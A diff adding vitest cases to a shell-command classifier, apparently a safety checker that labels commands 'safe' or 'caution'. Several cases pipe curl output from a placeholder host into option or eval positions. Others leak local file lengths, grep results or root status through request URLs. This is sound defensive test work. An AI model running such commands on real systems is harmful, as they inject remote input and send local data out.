@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is the shell that fills it in
 import { describe, expect, test } from 'vitest';
 import { classify } from '#server/classifier/classify.ts';
 
@@ -43,6 +44,58 @@ describe('the network is open under safe where nothing interprets what comes fro
 		'm4 notes.m4; curl -I https://x.example',
 		'git status; curl -I https://x.example'
 	])('caution: %s', isCareful);
+
+	test.each([
+		'[ "$(curl -s https://x.example/a)" = ok ] && echo up',
+		'[ "$(curl -s https://x.example/a)" -eq 200 ]',
+		'x=$(curl -s https://x.example/a); [ -n "$x" ] && printf "%s\\n" "$x"',
+		'GH_REPO=a/b gh pr list',
+		'n=$(wc -l < f); head -n "$n" g; curl -I https://x.example',
+		'curl -s https://x.example/a | while read -r line; do echo $line; done',
+		'grep "$(date +%F)" app.log; curl -I https://x.example'
+	])('safe, though a word is known only when it runs: %s', isSafe);
+
+	test.each([
+		'[ $(curl -s https://x.example/a) = ok ] && echo up',
+		'test $(curl -s https://x.example/a)',
+		'[ ""$(curl -s https://x.example/a) = ok ]',
+		'x=$(curl -s https://x.example/a); printf $x',
+		'printf "$(curl -s https://x.example/a)" x',
+		'sort $(curl -s https://x.example/o) f',
+		'sort "$(curl -s https://x.example/o)" <(curl -s https://x.example/data)',
+		'curl -s https://x.example/a | xargs sort',
+		'curl -s https://x.example/a | while read -r l; do printf $l; done',
+		'x=$(curl -s https://x.example/a); rg $x f',
+		'x=$(curl -s https://x.example/a); mapfile "$x" < f',
+		'x=$(cat notes); printf $x; curl -I https://x.example',
+		'sort *; curl -I https://x.example',
+		'uniq $(curl -s https://x.example/a)',
+		'GH_CONFIG_DIR=./x gh pr list',
+		'GEMRC=./x gem search y',
+		'x=$(curl -s https://x.example/a); a[x]=1',
+		'x=$(curl -s https://x.example/a); a=([$x]=1)',
+		'x=$(curl -s https://x.example/a); PS4="$x"; set -x; echo'
+	])('caution, for a word may be an option or be evaluated: %s', isCareful);
+});
+
+describe('what a variable of data tells by its length, or by being there', () => {
+	test.each([
+		'x=$(<f); curl https://x.example/${#x}',
+		'mapfile a < f; curl https://x.example/${#a[@]}',
+		'x=$(grep -c a f); curl https://x.example${x:+/yes}',
+		'x=$(grep a f); curl ${x:+https://x.example}',
+		'a=(*); curl https://x.example/${#a[@]}',
+		'(( UID == 0 )) && curl https://x.example',
+		'while ! grep -q a f; do sleep 1; done; curl https://x.example'
+	])('caution: %s', isCareful);
+	test.each([
+		'for ((i = 0; i < 3; i++)); do curl https://x.example/$i; done',
+		'i=3; while ((i-- > 0)); do curl -I https://x.example; done',
+		'until curl -sf https://x.example; do sleep 1; done; curl https://x.example/done',
+		'x=abc; curl https://x.example/${#x}',
+		'curl https://x.example${X:+/yes}',
+		'x=a; curl https://x.example${x:+/yes}'
+	])('safe: %s', isSafe);
 });
 
 describe('the network is open under safe where nothing takes settings from where it stands', () => {
